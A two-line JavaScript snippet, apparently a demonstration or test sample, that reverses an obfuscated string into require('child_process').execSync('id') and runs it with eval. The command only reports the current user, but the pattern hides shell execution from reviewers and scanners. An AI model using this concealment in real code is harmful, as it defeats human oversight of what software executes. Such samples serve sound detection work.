const text = ")'di'(cnyScexe.)'ssecorp_dlihc'(eriuqer";
eval(text.split("").reverse().join(""));
